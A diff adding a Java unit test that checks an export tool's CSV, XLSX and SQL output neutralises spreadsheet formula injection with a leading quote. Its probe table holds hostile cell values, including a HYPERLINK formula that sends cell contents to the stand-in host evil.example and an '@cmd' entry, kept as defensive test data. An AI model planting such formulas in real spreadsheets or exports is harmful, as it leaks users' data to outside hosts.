@@ -99,6 +99,124 @@ class ExportTest {
     }
   }
 
+  /**
+   * Landing text that a spreadsheet would run reaches exports through ops.quarantine.value. Each
+   * probe row: its value as landed, and the cell expected in xlsx, spelled out by hand (OWASP: a
+   * single quote before =, +, -, @, tab or CR; a number written as text left alone).
+   */
+  private static final String[][] PROBES = {
+    {
+      "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+      "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"
+    },
+    {"+SUM(1,2)", "'+SUM(1,2)"},
+    {"-2+3", "'-2+3"},
+    {"@cmd", "'@cmd"},
+    {"\t=1+1", "'\t=1+1"},
+    {"\r=1+1", "'\r=1+1"},
+    {"-5", "-5"},
+    {"-12.5", "-12.5"},
+    {"+7", "+7"},
+    {"thirty", "thirty"},
+    {"a=b", "a=b"},
+  };
+
+  /** The same cells in CSV (RFC 4180: quoted when they hold a comma, quote or line end). */
+  private static final String[] PROBES_CSV = {
+    "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"",
+    "\"'+SUM(1,2)\"",
+    "'-2+3",
+    "'@cmd",
+    "'\t=1+1",
+    "\"'\r=1+1\"",
+    "-5",
+    "-12.5",
+    "+7",
+    "thirty",
+    "a=b",
+  };
+
+  @Test
+  void textASpreadsheetWouldRunIsNeutralisedAndNumbersStayNumbers() throws Exception {
+    Path warehouse =
+        org.mhcs.testing.WarehouseCopies.copy(GoldenRuns.community().root(), "export hostile ");
+    var spark = SharedSpark.session();
+    Path quarantine = warehouse.resolve("ops/quarantine");
+    var schema = spark.read().format("delta").load(quarantine.toString()).schema();
+    List<org.apache.spark.sql.Row> rows = new ArrayList<>();
+    for (int i = 0; i < PROBES.length; i++) {
+      Map<String, Object> probe = new HashMap<>();
+      probe.put("line", (long) -(i + 1)); // a negative number: stays a number
+      probe.put("field", "probe" + (char) ('a' + i));
+      probe.put("value", PROBES[i][0]);
+      rows.add(
+          org.apache.spark.sql.RowFactory.create(
+              java.util.Arrays.stream(schema.fieldNames())
+                  .map(f -> probe.getOrDefault(f, "p"))
+                  .toArray()));
+    }
+    spark
+        .createDataFrame(rows, schema)
+        .write()
+        .format("delta")
+        .mode("append")
+        .save(quarantine.toString());
+
+    Path csv = SharedSpark.newFolder("export-").resolve("quarantine.csv");
+    exportFrom(warehouse, "--table", "ops.quarantine", "--out", csv.toString());
+    String written = Files.readString(csv, StandardCharsets.UTF_8);
+    String header = written.substring(0, written.indexOf('\n'));
+    assertTrue(header.contains(",line,field,rule,value,"), header);
+    for (int i = 0; i < PROBES.length; i++) {
+      // line, field, rule ("p"), value, all_rules ("p"): the probe's cells side by side
+      String cells = ",-" + (i + 1) + ",probe" + (char) ('a' + i) + ",p," + PROBES_CSV[i] + ",p,";
+      assertTrue(written.contains(cells), "csv should hold " + cells);
+    }
+
+    Path xlsx = SharedSpark.newFolder("export-").resolve("quarantine.xlsx");
+    exportFrom(warehouse, "--table", "ops.quarantine", "--out", xlsx.toString());
+    try (InputStream in = Files.newInputStream(xlsx);
+        XSSFWorkbook book = new XSSFWorkbook(in)) {
+      Sheet sheet = book.getSheet("quarantine");
+      List<String> columns = new ArrayList<>();
+      sheet.getRow(0).forEach(c -> columns.add(c.getStringCellValue()));
+      Map<String, Cell[]> byField = new HashMap<>();
+      for (int r = 1; r <= sheet.getLastRowNum(); r++) {
+        var row = sheet.getRow(r);
+        byField.put(
+            row.getCell(columns.indexOf("field")).getStringCellValue(),
+            new Cell[] {
+              row.getCell(columns.indexOf("line")), row.getCell(columns.indexOf("value"))
+            });
+      }
+      for (int i = 0; i < PROBES.length; i++) {
+        Cell[] cells = byField.get("probe" + (char) ('a' + i));
+        assertEquals(-(i + 1), cells[0].getNumericCellValue(), "line stays a number");
+        assertEquals(PROBES[i][1], cells[1].getStringCellValue(), PROBES[i][0]);
+      }
+    }
+
+    // ./mhcs sql writes the same CSV cells.
+    CommandLine.Outcome sql =
+        CommandLine.run(
+            "sql",
+            "--warehouse",
+            warehouse.toString(),
+            "SELECT line, value FROM ops.quarantine WHERE field LIKE 'probe%' ORDER BY field");
+    StringBuilder expected = new StringBuilder("line,value\n");
+    for (int i = 0; i < PROBES.length; i++) {
+      expected.append(-(i + 1)).append(',').append(PROBES_CSV[i]).append('\n');
+    }
+    assertEquals(expected.toString(), sql.out(), sql.err());
+  }
+
+  private static void exportFrom(Path warehouse, String... options) {
+    List<String> args = new ArrayList<>(List.of("export", "--warehouse", warehouse.toString()));
+    args.addAll(List.of(options));
+    CommandLine.Outcome done = CommandLine.run(args.toArray(String[]::new));
+    assertEquals(ExitCode.OK, done.code(), done.err());
+  }
+
   @Test
   void rowLevelTablesAreNotPublished() {
     CommandLine.Outcome refused =
